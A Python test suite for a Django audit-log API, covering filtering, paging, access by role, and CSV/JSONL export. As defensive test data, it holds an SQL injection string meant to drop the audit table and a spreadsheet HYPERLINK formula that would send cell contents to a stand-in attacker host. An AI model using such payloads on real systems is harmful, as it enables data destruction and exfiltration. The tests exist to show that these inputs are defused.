"""The audit trail over REST: filters, pages, files, and who may read what of it."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from typing import Any

import pytest
import redis
from django.test import Client
from django.utils import timezone

from bus import accounts, audit, models, roles, whence
from tests.support.api import ROOT, Api, api, problem

pytestmark = pytest.mark.django_db

ANN = roles.Principal("user:1", "Ann", roles.ADMIN)
BOB = roles.Principal("user:2", "bob", roles.OPERATOR)


@pytest.fixture
def trail(redis_client: redis.Redis) -> Iterator[None]:
    """Five entries, an hour between each, the last an hour ago."""
    done: list[tuple[roles.Principal, str, str, str]] = [
        (ANN, "limit", "a:x", "a:x"),
        (BOB, "pause", "a:x", "a:x"),
        (BOB, "replay", "b", "0198c0de-0000-7000-8000-00000000abcd"),
        (ANN, "create token", "", "ci"),
        (BOB, "drain", "", "agent-7"),
    ]
    for hours, (who, verb, topic, target) in enumerate(done):
        with whence.through(whence.PAGE, f"r{hours}", "10.0.0.7"):
            audit.record(who, verb, topic=topic, target=target, note=hours)
        at = timezone.now() - timezone.timedelta(hours=5 - hours)
        models.AuditEntry.objects.filter(verb=verb).update(at=at)
    yield


def verbs(answer: Any) -> list[str]:
    assert answer.status_code == 200, answer.content
    return [row["verb"] for row in answer.json()["entries"]]


def ago(hours: float) -> str:
    return (timezone.now() - timezone.timedelta(hours=hours)).isoformat()


ALL = ["drain", "create token", "replay", "pause", "limit"]


def test_the_newest_come_first_whole(trail: None) -> None:
    answer = api().get("audit")

    assert verbs(answer) == ALL and answer.json()["next"] is None
    row = answer.json()["entries"][2]
    assert row.pop("id") > 0 and row.pop("at").endswith("Z")
    assert row == {
        "who": "bob",
        "role": "operator",
        "verb": "replay",
        "topic": "b",
        "target": "0198c0de-0000-7000-8000-00000000abcd",
        "door": "page",
        "request_id": "r2",
        "address": "10.0.0.7",
        "before": None,
        "after": None,
        "detail": {"note": 2},
    }


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ({"who": "ann"}, ["create token", "limit"]),
        ({"who": "BO"}, ["drain", "replay", "pause"]),
        ({"who": "%"}, []),
        ({"verb": "pause"}, ["pause"]),
        ({"verb": "paus"}, []),
        ({"topic": "a:x"}, ["pause", "limit"]),
        ({"topic": "a"}, []),
        ({"target": "abcd"}, ["replay"]),
        ({"target": "AGENT"}, ["drain"]),
        ({"request_id": "r3"}, ["create token"]),
        ({"who": "bob", "topic": "a:x"}, ["pause"]),
        ({"who": "'; DROP TABLE bus_auditentry; --"}, []),
    ],
)
def test_filters_are_and(trail: None, query: dict[str, str], found: list[str]) -> None:
    assert verbs(api().get("audit", **query)) == found


def test_a_span_of_time_has_its_beginning_and_not_its_end(trail: None) -> None:
    client = api()

    assert verbs(client.get("audit", since=ago(3.5))) == ALL[:3]
    assert verbs(client.get("audit", until=ago(3.5))) == ALL[3:]
    assert verbs(client.get("audit", since=ago(3.5), until=ago(1.5))) == ALL[1:3]
    exact = client.get("audit", verb="pause").json()["entries"][0]["at"]
    at = models.AuditEntry.objects.get(verb="pause").at.isoformat()
    assert exact[:23] == at[:23]
    assert "pause" in verbs(client.get("audit", since=at))
    assert "pause" not in verbs(client.get("audit", until=at))


def test_pages_skip_and_repeat_nothing_while_more_is_done(trail: None) -> None:
    client = api()
    found, cursor = [], {}
    for _ in range(10):
        page = client.get("audit", count=2, **cursor)
        found += verbs(page)
        audit.record(BOB, "meanwhile")
        if page.json()["next"] is None:
            break
        cursor = {"cursor": page.json()["next"]}

    assert found == ALL


@pytest.mark.parametrize(
    "query",
    [
        {"cursor": "x"},
        {"cursor": "²"},
        {"cursor": "-1"},
        {"cursor": "9" * 30},
        {"since": "yesterday"},
        {"until": "2026-01-01T00:00:00"},
        {"format": "xlsx"},
        {"count": "0"},
        {"object": "a"},
        {"limit": "1"},
    ],
)
def test_odd_questions_are_422(trail: None, query: dict[str, str]) -> None:
    assert api().get("audit", **query).status_code == 422


def test_odd_letters_in_a_filter_find_nothing_and_break_nothing(trail: None) -> None:
    for text in ("\x00", "\ud7ff", "x" * 5000, "\\", "_", "%%"):
        assert verbs(api().get("audit", who=text, target=text)) == []


# --- who may read what


@pytest.mark.parametrize("role", ["viewer", "agent"])
def test_viewers_and_agents_do_not_read_it(trail: None, role: str) -> None:
    for query in ({}, {"format": "csv"}):
        problem(api(role).get("audit", **query), 403, "permission_denied")


@pytest.mark.parametrize("format", ["json", "jsonl", "csv"])
def test_a_bound_token_reads_of_its_own_topics_only(trail: None, format: str) -> None:
    text = _body(api("operator", ("a:",)).get("audit", format=format))

    assert "limit" in text and "pause" in text
    assert not any(word in text for word in ("replay", "create token", "drain"))
    assert verbs(api("operator", ("a:",)).get("audit", topic="b")) == []


def test_a_session_reads_it(trail: None) -> None:
    accounts.ensure_user("op", "operator", "a long password")
    client = Client()
    client.login(username="op", password="a long password")

    assert verbs(client.get(f"{ROOT}/audit"))[0] == "drain"


# --- files


def _body(answer: Any) -> str:
    if answer.streaming:
        return b"".join(answer.streaming_content).decode()
    text: str = answer.content.decode()
    return text


def test_lines_of_json_are_the_rows_of_the_pages(trail: None) -> None:
    client = api()
    answer = client.get("audit", format="jsonl", who="bob", count=1)
    rows = client.get("audit", who="bob").json()["entries"]

    assert answer["Content-Type"] == "application/jsonl; charset=utf-8"
    assert answer["Content-Disposition"].startswith('attachment; filename="audit-2')
    assert answer["Cache-Control"] == "no-store"
    assert [json.loads(line) for line in _body(answer).splitlines()] == rows


def test_a_spreadsheet_computes_nothing_of_what_others_wrote(
    redis_client: redis.Redis,
) -> None:
    name = '=HYPERLINK("http://evil.example?"&A1,"x"),\r\n"+1'
    evil = roles.Principal("user:9", name, roles.OPERATOR)
    targets = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "  =1", "＝1", "a=1", 'ü, "q"']
    for target in targets:
        audit.record(evil, "x", target=target, after={"n": -5})

    answer = api().get("audit", format="csv")
    rows = [*csv.DictReader(io.StringIO(_body(answer), newline=""))]

    assert answer["Content-Type"].startswith("text/csv; charset=utf-8")
    assert [*rows[0]] == list(audit.COLUMNS)
    told = [row["target"] for row in rows][::-1]
    assert told == [*(f"'{each}" for each in targets[:7]), *targets[7:]]
    assert {row["who"] for row in rows} == {f"'{name}"}
    assert {row["after"] for row in rows} == {'{"n":-5}'}
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows
        for cell in row.values()
    )


def test_an_export_is_longer_than_any_page_and_reads_step_by_step(
    redis_client: redis.Redis,
    monkeypatch: pytest.MonkeyPatch,
    django_assert_max_num_queries: Any,
) -> None:
    monkeypatch.setattr("bus.audit._STEP", 100)
    models.AuditEntry.objects.bulk_create(
        models.AuditEntry(who="x", verb=f"v{n}") for n in range(1050)
    )
    client = api()

    with django_assert_max_num_queries(20):
        lines = _body(client.get("audit", format="jsonl")).splitlines()

    assert [json.loads(line)["verb"] for line in lines] == [
        f"v{n}" for n in reversed(range(1050))
    ]


def test_nothing_found_is_a_file_too(redis_client: redis.Redis) -> None:
    assert _body(api().get("audit", format="jsonl")) == ""
    assert _body(api().get("audit", format="csv")).strip() == ",".join(audit.COLUMNS)


def test_reading_leaves_no_entry(trail: None) -> None:
    before = models.AuditEntry.objects.count()

    for query in ({}, {"format": "csv"}):
        _body(Api(None).get("audit", **query))
        _body(api().get("audit", **query))

    assert models.AuditEntry.objects.count() == before
